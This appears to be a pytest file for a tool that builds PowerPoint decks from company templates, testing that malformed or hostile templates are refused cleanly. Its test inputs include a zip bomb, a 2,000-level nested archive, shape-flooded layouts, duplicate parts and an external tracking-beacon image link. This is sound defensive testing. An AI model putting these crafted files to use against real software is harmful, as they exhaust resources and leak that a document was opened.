        _replace("ppt/slideLayouts/slideLayout1.xml", b'<p:ph type="subTitle" idx="1"/>', b'<p:ph type="sldImg" idx="1"/>'),
        "its layout 'Title Slide' has type='sldImg', which PowerPoint does not write on a slide master or layout"),
    "no layouts": (_drop_layouts, "its slide master has no layouts"),
    "no master": (lambda parts: parts.__setitem__("ppt/presentation.xml", re.sub(
        rb"<p:sldMasterIdLst>.*?</p:sldMasterIdLst>", b"", parts["ppt/presentation.xml"])), "it has no slide master"),
    "no slide size": (lambda parts: parts.__setitem__("ppt/presentation.xml", re.sub(
        rb"<p:sldSz[^>]*/>", b"", parts["ppt/presentation.xml"])), "it has no slide size"),
    "letters for a size": (_size("abc"), "its slide size cx='abc'"),
    "a negative size": (_size("-5"), "its slide size cx='-5'"),
    "a theme that is not XML": (lambda parts: parts.__setitem__(THEME, parts[THEME][:-50]),
                                "ppt/theme/theme1.xml is not well-formed XML"),
    "table styles that are not XML": (_set("ppt/tableStyles.xml", b"<a:tblStyleLst"),
                                      "ppt/tableStyles.xml is not well-formed XML"),
    "a zip bomb": (_set("ppt/printerSettings/printerSettings1.bin", bytes(2 * 1024 * 1024)),
                   "is compressed 1,0"),  # 2 MiB of zeros deflate to about 2 KB
}


@pytest.mark.parametrize("case", list(BROKEN))
def test_a_template_that_cannot_make_a_deck_is_a_usage_error_naming_it(client_deck, case):
    change, words = BROKEN[case]
    parts = package()
    change(parts)
    code, output, deck = client_deck(parts)
    assert code == 2 and deck is None, output
    assert f"company.pptx: " in output and words in output and "Traceback" not in output, output


def test_the_portfolio_deck_refuses_a_template_it_cannot_make_slides_on(portfolio, tmp_path, monkeypatch):
    """The portfolio's deck is made on the same checks as an account's: a slide image on a layout."""
    from kaplan.cli.app import app

    parts = package()
    _replace("ppt/slideLayouts/slideLayout1.xml", b'<p:ph type="subTitle" idx="1"/>', b'<p:ph type="sldImg" idx="1"/>')(parts)
    save(tmp_path / "company.pptx", parts)
    monkeypatch.chdir(portfolio)
    r = CliRunner().invoke(app, ["report", "--portfolio", "-f", "pptx", "--template", str(tmp_path / "company.pptx"),
                                 "--today", TODAY.isoformat(), "-o", str(tmp_path / "portfolio.pptx")])
    assert r.exit_code == 2 and not (tmp_path / "portfolio.pptx").exists(), r.output
    assert "company.pptx: " in r.output and "type='sldImg'" in r.output and "Traceback" not in r.output


@pytest.mark.parametrize("when", ["opened", "used"])
def test_whatever_else_a_template_trips_in_python_pptx_is_a_refusal_not_a_traceback(client_deck, monkeypatch, when):
    """The checks cannot foresee every structure python-pptx fails to follow: an error of its own,
    raised as the template is reduced or as a slide is made on it, is still exit 2 naming the template."""
    from pptx.exc import InvalidXmlError

    from kaplan.report import deck, deck_file

    def fails(*args, **kwargs):
        raise InvalidXmlError("required ``<p:cSld>`` child element not present")

    monkeypatch.setattr(deck_file, "keep_the_look", fails) if when == "opened" else monkeypatch.setattr(
        deck.Deck, "title", fails)
    code, output, made = client_deck(package())
    assert code == 2 and made is None, output
    assert "company.pptx: " in output and "InvalidXmlError" in output and "Traceback" not in output, output


def _shapes(n: int, first: int = 100, ph: bool = False) -> bytes:
    """`n` empty shapes with ids from `first`, body placeholders with indexes from `first` if `ph`."""
    holder = '<p:ph type="body" idx="{}"/>' if ph else ""
    return b"".join(f'<p:sp><p:nvSpPr><p:cNvPr id="{i}" name="s"/><p:cNvSpPr/><p:nvPr>{holder.format(i)}'
                    f'</p:nvPr></p:nvSpPr><p:spPr/></p:sp>'.encode() for i in range(first, first + n))


@pytest.mark.parametrize("extra, refused", [(95, False), (96, True)])
def test_a_layout_of_more_placeholders_than_would_be_cheap_to_copy_is_refused(client_deck, extra, refused):
    """python-pptx copies a layout's placeholders onto each slide, each copy reading every id of the
    slide: 2,000 a layout took half a minute a deck. "Title and Content" holds 5; 5 + 95 = 100 is
    the most a layout may hold, 5 + 96 = 101 is refused before anything is copied."""
    parts = package()
    parts[LAYOUT2] = parts[LAYOUT2].replace(b"</p:spTree>", _shapes(extra, ph=True) + b"</p:spTree>", 1)
    code, output, made = client_deck(parts)
    if not refused:
        assert code == 0 and made is not None, output
        return
    assert code == 2 and made is None, output
    assert ("company.pptx: its layout /ppt/slideLayouts/slideLayout2.xml holds 101 placeholders, which would cost "
            "too much to open (at most 100" in " ".join(output.split())), output


def test_a_master_of_more_shapes_than_would_be_cheap_to_walk_is_refused(client_deck):
    """The master holds 5 shapes; with 996 more, 1,001 is over the 1,000 a master or layout may hold."""
    parts = package()
    on_master(parts, _shapes(996))
    code, output, made = client_deck(parts)
    assert code == 2 and made is None, output
    assert "slideMaster1.xml holds 1,001 shapes, which would cost too much" in " ".join(output.split()), output


@pytest.mark.parametrize("limit, words", [
    # python-pptx's deck: a master of 5 shapes and 11 layouts of 5+5+5+5+6+8+4+3+6+6+5 = 58: 63 together
    ("MAX_ALL_SHAPES", "more than 62 shapes together"),
    ("MAX_LAYOUTS", "more than 10 layouts"),
])
def test_a_deck_of_more_layouts_or_shapes_in_all_than_would_be_cheap_is_refused(client_deck, monkeypatch, limit, words):
    """The real bounds are 10,000 shapes and 200 layouts; python-pptx's deck, one over lower ones, stands for more."""
    from kaplan.report import deck_file

    monkeypatch.setattr(deck_file, limit, 62 if limit == "MAX_ALL_SHAPES" else 10)
    code, output, made = client_deck(package())
    assert code == 2 and made is None, output
    assert words in " ".join(output.split()) and "would cost too much to open" in " ".join(output.split()), output
    monkeypatch.setattr(deck_file, limit, 63 if limit == "MAX_ALL_SHAPES" else 11)
    code, output, made = client_deck(package())
    assert code == 0 and made is not None, output


@pytest.mark.parametrize("limit", ["MAX_XML_PART", "MAX_XML"])
def test_xml_that_would_build_trees_of_gigabytes_is_refused_before_it_is_parsed(client_deck, monkeypatch, limit):
    """The real limits are 16 MiB a part and 64 MiB in all, a deck of a few MB compressed; the
    master (about 12 KB) and python-pptx's deck (about 90 KB of XML) stand for XML over them here.
    Nothing but the list of content types is parsed first."""
    from kaplan.report import deck_file

    monkeypatch.setattr(deck_file, limit, 10_000 if limit == "MAX_XML_PART" else 20_000)
    parsed, parse = [], deck_file.parse
    monkeypatch.setattr(deck_file, "parse", lambda data: parsed.append(1) or parse(data))
    code, output, deck = client_deck(package())
    assert code == 2 and deck is None, output
    words = ("slideMaster1.xml unpacks to" if limit == "MAX_XML_PART"
             else "XML parts unpack to more than")
    assert words in output and "company.pptx" in output and parsed == [1], output


def test_a_template_with_two_parts_of_one_name_is_refused(client_deck):
    """Readers disagree on which of two same-named parts is the deck: the other could carry anything."""
    parts = package()
    copy = parts[MASTER].replace(b"</p:spTree>", b"<p:sp><p:nvSpPr><p:cNvPr id='99' name='x'/><p:cNvSpPr/><p:nvPr/>"
                                                 b"</p:nvSpPr><p:spPr/></p:sp></p:spTree>", 1)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is asked to write
        code, output, deck = client_deck(parts, extra=[(MASTER, copy)])
    assert code == 2 and deck is None and f"two parts named {MASTER}" in output, output


@pytest.mark.parametrize("name", ["ppt/media/IMAGE1.PNG", "PPT/SLIDES/SLIDE1.PNG", "docProps/logo.png",
                                  "_rels/logo.png", "logo.png"])
def test_a_picture_of_the_template_never_writes_a_name_of_its_own(client_deck, name):
    """A picture named like a part of kaplan's in another case, in a folder of the package's or outside
    `ppt/` is written under a name of kaplan's own: each name once in the deck, compared as readers
    compare them (without case), and the picture still shown. (A name ending .xml or .rels is parsed
    as XML before the deck is opened, so no picture has one.)"""
    parts = package()
    parts[name] = png("")
    typed(parts, name, "image/png")
    relate(parts, MASTER, "rId90", REL + "image", "/" + name)
    on_master(parts, picture(70, 'r:embed="rId90"'))
    code, output, deck = client_deck(parts)
    assert code == 0, output
    with zipfile.ZipFile(io.BytesIO(deck)) as z:
        names = z.namelist()
        pictures = [n for n in names if z.read(n).startswith(b"\x89PNG")]
    assert len({n.lower() for n in names}) == len(names), names
    assert name not in names
    assert len(pictures) == 1 and re.fullmatch(r"ppt/media/image\d+\.png", pictures[0]), pictures
    master = Presentation(io.BytesIO(deck)).slide_master
    assert [sh.image.blob[:4] for sh in master.shapes if sh.shape_type == 13] == [b"\x89PNG"]


def test_a_written_package_never_holds_two_parts_of_one_name():
    """Were two parts to get one name (case aside), the deck is refused, not written with either."""
    from kaplan.report.settled import settle

    buf = io.BytesIO()
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as z:
        warnings.simplefilter("ignore")
        for name in ("[Content_Types].xml", "ppt/slides/slide1.xml", "PPT/SLIDES/SLIDE1.XML"):
            z.writestr(name, b"<x/>")
    with pytest.raises(ValueError, match="two parts named"):
        settle(buf.getvalue(), TODAY)


def test_a_master_of_many_pictures_is_walked_a_bounded_number_of_times(tmp_path, monkeypatch):
    """Each part's XML is searched for the relationships it names a fixed number of times, not once a
    picture: a master of 2,000 pictures and 2,000 shapes (35 KB) took 28 s of CPU time that way."""
    from kaplan.report import deck_file, deck_template

    parts = package()
    parts["ppt/media/logo.png"] = png("")
    typed(parts, "ppt/media/logo.png", "image/png")
    for n in range(100, 300):  # 200 pictures, each shown by a shape of its own
        relate(parts, MASTER, f"rId{n}", REL + "image", "../media/logo.png")
        on_master(parts, picture(n, f'r:embed="rId{n}"'))
    save(tmp_path / "company.pptx", parts)
    walks: list[int] = []
    named = deck_template._named
    monkeypatch.setattr(deck_template, "_named", lambda element: walks.append(1) or named(element))
    prs = deck_file.open_template(tmp_path / "company.pptx")
    parts_with_xml = 1 + 1 + 11 + 1 + 1  # the presentation, the master, 11 layouts, the theme, the table styles
    assert len(walks) <= 2 * parts_with_xml, len(walks)
    assert sum(sh.shape_type == 13 for sh in prs.slide_master.shapes) == 200  # every picture still shown


def test_a_picture_that_is_an_archive_of_archives_costs_no_recursion(client_deck):
    """The master shows a GIF named .xlsx that is also a zip (a zip may start with anything) holding a
    zip… 2,000 levels deep: the deck's own workbooks are settled (dated) one level deep, and only they."""
    inner = b"DEEPEST"
    for _ in range(2000):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
            z.writestr("x.xlsx", inner)
        inner = buf.getvalue()
    parts = package()
    parts["ppt/media/logo.xlsx"] = b"GIF89a" + inner
    assert zipfile.is_zipfile(io.BytesIO(parts["ppt/media/logo.xlsx"]))
    typed(parts, "ppt/media/logo.xlsx", "image/gif")
    relate(parts, MASTER, "rId90", REL + "image", "../media/logo.xlsx")
    on_master(parts, picture(70, 'r:embed="rId90"'))
    code, output, deck = client_deck(parts)
    assert code == 0, output
    with zipfile.ZipFile(io.BytesIO(deck)) as z:
        logo = next(name for name in z.namelist() if z.read(name).startswith(b"GIF89a"))
        assert logo.startswith("ppt/media/image") and logo.endswith(".gif")  # a name of kaplan's own
        assert len(z.read(logo)) == len(parts["ppt/media/logo.xlsx"])


@pytest.mark.parametrize("what", ["fifo", "dev-zero", "folder"])
def test_only_a_regular_file_is_read_as_a_template(portfolio, tmp_path, what):
    """A named pipe would be waited on forever, /dev/zero read forever: both refused before a byte is read."""
    if what == "fifo":
        template = tmp_path / "company.pptx"
        os.mkfifo(template)
    elif what == "dev-zero":
        template = "/dev/zero"
        if not os.path.exists(template):
            pytest.skip("no /dev/zero here")
    else:
        template = tmp_path
    r = subprocess.run([sys.executable, "-c", "from kaplan.cli.app import main; main()", "report", ACCOUNT,
                        "--audience", "client", "-f", "pptx", "--template", str(template), "--today",
                        TODAY.isoformat(), "-o", str(tmp_path / "client.pptx")],
                       cwd=portfolio, capture_output=True, text=True, timeout=60)
    assert r.returncode == 2, r.stderr
    assert f"--template {template}: not a file" in r.stderr and "Traceback" not in r.stderr
    assert not (tmp_path / "client.pptx").exists()


@pytest.mark.skipif(SOFFICE is None, reason="no LibreOffice to convert the deck with")
def test_libreoffice_converts_a_deck_made_on_a_template_reduced_this_way(client_deck, tmp_path):
    """The reductions leave a package a real reader opens: external pictures, links, hidden shapes,
    smuggled parts and renamed properties all at once."""
    from pypdf import PdfReader

    from test_report_office import convert

    parts = package()
    relate(parts, MASTER, "rId90", REL + "image", "https://example.invalid/SECRET-BEACON.png", external=True)
    on_master(parts, b'<p:pic><p:nvPicPr><p:cNvPr id="70" name="SECRET-logo" descr="SECRET"/><p:cNvPicPr/><p:nvPr/>'
                     b'</p:nvPicPr><p:blipFill><a:blip r:link="rId90"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
                     b'<p:spPr/></p:pic><p:sp><p:nvSpPr><p:cNvPr id="71" name="x" hidden="1"/><p:cNvSpPr/><p:nvPr/>'
                     b'</p:nvSpPr><p:spPr/></p:sp>')
    relate(parts, "ppt/presentation.xml", "rId96", REL + "theme", "slideMasters/slideMaster1.xml")
    code, output, deck = client_deck(parts)
    assert code == 0, output
    no_secret(deck)
    path = tmp_path / "made.pptx"
    path.write_bytes(deck)
    pdf = PdfReader(convert(path, tmp_path))
    assert len(pdf.pages) == len(Presentation(path).slides)
